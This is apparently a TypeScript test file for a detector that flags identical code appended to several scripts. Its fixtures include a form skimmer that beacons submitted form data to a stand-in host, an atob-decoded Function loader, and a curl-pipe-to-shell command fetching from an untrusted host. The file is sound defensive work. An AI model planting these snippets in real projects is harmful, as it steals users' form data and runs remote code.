import detector from "../../../../src/engine/detectors/content/same-code-appended.ts";
import { strengthsOfPrograms } from "../run-programs.ts";

const SENDER = `document.addEventListener("submit", function (e) { navigator.sendBeacon("https://x.example/c", new FormData(e.target)); });\n`;
const DECODER = `new Function(atob("${"QUJD".repeat(50)}"))();\n`;
const into = (code: string, ...paths: readonly string[]) =>
  Object.fromEntries(
    paths.map((path) => [path, [`const name = "${path}";\n`, `const name = "${path}";\n${code}`] as const]),
  );

test.each([
  ["a sender in three scripts", into(SENDER, "a.js", "lib/b.js", "c.js"), ["strong"]],
  ["a decoder in three scripts", into(DECODER, "a.js", "lib/b.js", "c.js"), ["strong"]],
  ["installers that share a known download", into("curl https://sh.rustup.rs | sh\n", "a.sh", "lib/b.sh", "c.sh"), []],
  [
    "installers that share a stranger's",
    into("curl https://x.example/a | sh\n", "a.sh", "lib/b.sh", "c.sh"),
    ["strong"],
  ],
  ["two scripts", into(SENDER, "a.js", "b.js"), []],
  ["new scripts", { "a.js": SENDER, "b.js": SENDER, "c.js": SENDER }, []],
  ["tests", into(SENDER, "test/a.test.js", "test/b.test.js", "test/c.test.js"), []],
  ["a request that only reads", into('fetch("https://x.example/a");\n', "a.js", "b.js", "c.js"), []],
  ["a line that does nothing", into('import { x } from "./names.js";\n', "a.js", "b.js", "c.js"), []],
] as const)("%s", async (_, files, expected) => {
  expect(await strengthsOfPrograms(detector, files)).toEqual(expected);
});
